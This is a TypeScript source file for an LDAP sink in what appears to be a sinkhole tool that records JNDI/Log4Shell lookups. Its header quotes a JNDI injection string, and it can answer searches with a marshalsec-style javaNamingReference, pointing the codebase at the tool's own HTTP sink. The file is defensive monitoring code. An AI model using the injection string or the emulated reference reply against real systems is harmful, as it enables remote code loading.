/**
 * LDAP: enough for a JNDI lookup (`${jndi:ldap://host:1389/a}`) to say what it asks for. Binds
 * succeed; a search records its base DN (the name after the slash) and is answered with no entry
 * (`empty`, the default) or with a javaNamingReference whose codebase is the sinkhole's HTTP sink
 * (`reference`), which is how the real exploit servers answer, so the next step is recorded too.
 */
import { concatBytes, hexPrefix, latin1 } from '../bytes.ts';
import type { SinkContext, TcpSink } from '../sink.ts';
import { children, encodeAll, encodeInteger, encodeString, integerValue, readElement, type BerElement } from './ber.ts';

const MAX_MESSAGE_BYTES = 65_536; // JNDI's messages are a few hundred bytes
const Tag = {
  SEQUENCE: 0x30,
  SET: 0x31,
  INTEGER: 0x02,
  OCTET_STRING: 0x04,
  ENUMERATED: 0x0a,
  BIND_REQUEST: 0x60,
  BIND_RESPONSE: 0x61,
  UNBIND_REQUEST: 0x42,
  SEARCH_REQUEST: 0x63,
  SEARCH_ENTRY: 0x64,
  SEARCH_DONE: 0x65,
  SIMPLE_AUTH: 0x80,
  SASL_AUTH: 0xa3,
} as const;

export class LdapSink implements TcpSink {
  readonly name = 'ldap' as const;
  readonly protocol = 'ldap' as const;
  private buffered: Uint8Array = new Uint8Array(0);
  private broken = false;

  constructor(private readonly context: SinkContext) {}

  start(): void {}

  receive(bytes: Uint8Array): void {
    if (this.broken) return;
    this.buffered = concatBytes(this.buffered, bytes);
    while (this.buffered.length > 0 && !this.broken) {
      const read = readElement(this.buffered, 0);
      if (read.kind === 'need_more') {
        if (read.declaredEnd > MAX_MESSAGE_BYTES) this.stop('ldap_message_too_long');
        return;
      }
      if (read.kind === 'invalid') return this.stop(`ldap_${read.reason}`);
      if (read.element.tag !== Tag.SEQUENCE) return this.stop('ldap_not_a_message');
      const message = this.buffered.subarray(0, read.element.end);
      this.buffered = this.buffered.subarray(read.element.end);
      this.message(message, { ...read.element });
    }
  }

  end(): void {
    if (this.buffered.length > 0 && !this.broken) this.context.anomaly('ldap_message_truncated');
  }

  private stop(anomaly: string): void {
    this.context.anomaly(anomaly);
    this.broken = true;
    this.buffered = new Uint8Array(0);
    this.context.finish();
  }

  private message(bytes: Uint8Array, outer: BerElement): void {
    const parts = children(bytes, outer);
    if (typeof parts === 'string') return this.stop(`ldap_${parts}`);
    const [id, operation] = parts;
    if (!id || id.tag !== Tag.INTEGER || !operation) return this.stop('ldap_message_malformed');
    const messageId = integerValue(bytes, id);
    switch (operation.tag) {
      case Tag.BIND_REQUEST:
        return this.bind(bytes, operation, messageId);
      case Tag.SEARCH_REQUEST:
        return this.search(bytes, operation, messageId);
      case Tag.UNBIND_REQUEST:
        return this.context.finish();
      default:
        this.context.anomaly('ldap_operation_unsupported');
        // an extended or modify request: a protocolError-free "unwilling to perform" keeps clients calm
        this.context.reply(encodeAll(Tag.SEQUENCE, [encodeInteger(Tag.INTEGER, messageId), result(responseTag(operation.tag), 53)]));
    }
  }

  private bind(bytes: Uint8Array, operation: BerElement, messageId: number): void {
    const fields = children(bytes, operation);
    if (typeof fields === 'string' || fields.length < 3) return this.stop('ldap_bind_malformed');
    const [version, name, auth] = fields as [BerElement, BerElement, BerElement];
    const authentication = auth.tag === Tag.SIMPLE_AUTH ? 'simple' : auth.tag === Tag.SASL_AUTH ? 'sasl' : 'other';
    this.context.record('ldap', { kind: 'ldap_bind', version: integerValue(bytes, version), name: latin1(bytes, name.start, name.end), authentication });
    this.context.reply(encodeAll(Tag.SEQUENCE, [encodeInteger(Tag.INTEGER, messageId), result(Tag.BIND_RESPONSE, 0)]));
  }

  private search(bytes: Uint8Array, operation: BerElement, messageId: number): void {
    const fields = children(bytes, operation);
    if (typeof fields === 'string' || fields.length < 7) return this.stop('ldap_search_malformed');
    const [base, scope, , , , , filter] = fields as BerElement[];
    if (base!.tag !== Tag.OCTET_STRING) this.context.anomaly('ldap_base_not_a_string');
    const baseDn = latin1(bytes, base!.start, base!.end);
    const answeredWith = this.context.settings.ldapAnswer;
    this.context.record('ldap', {
      kind: 'ldap_search',
      baseDn,
      scope: integerValue(bytes, scope!),
      filterHex: `${filter!.tag.toString(16)}:${hexPrefix(bytes.subarray(filter!.start, filter!.end), 128)}`,
      answeredWith,
    });
    const id = encodeInteger(Tag.INTEGER, messageId);
    if (answeredWith === 'reference') this.context.reply(encodeAll(Tag.SEQUENCE, [id, this.reference(baseDn)]));
    this.context.reply(encodeAll(Tag.SEQUENCE, [id, result(Tag.SEARCH_DONE, 0)]));
  }

  /** the entry a marshalsec-style server returns: the class to load lives on the HTTP sink */
  private reference(baseDn: string): Uint8Array {
    const className = baseDn.replace(/[^A-Za-z0-9_$]/g, '') || 'Exploit';
    const attribute = (type: string, value: string): Uint8Array =>
      encodeAll(Tag.SEQUENCE, [encodeString(Tag.OCTET_STRING, type), encodeAll(Tag.SET, [encodeString(Tag.OCTET_STRING, value)])]);
    return encodeAll(Tag.SEARCH_ENTRY, [
      encodeString(Tag.OCTET_STRING, baseDn),
      encodeAll(Tag.SEQUENCE, [
        attribute('javaClassName', 'foo'),
        attribute('javaCodeBase', `http://${this.context.destination.address}:80/`),
        attribute('objectClass', 'javaNamingReference'),
        attribute('javaFactory', className),
      ]),
    ]);
  }
}

/** requests are [APPLICATION n], their responses [APPLICATION n+1]; else an extended response */
function responseTag(requestTag: number): number {
  return (requestTag & 0xe0) === 0x60 && (requestTag & 0x1f) < 0x1e ? requestTag + 1 : 0x78;
}

/** LDAPResult: resultCode, empty matchedDN, empty diagnosticMessage */
function result(tag: number, code: number): Uint8Array {
  return encodeAll(tag, [encodeInteger(Tag.ENUMERATED, code), encodeString(Tag.OCTET_STRING, ''), encodeString(Tag.OCTET_STRING, '')]);
}
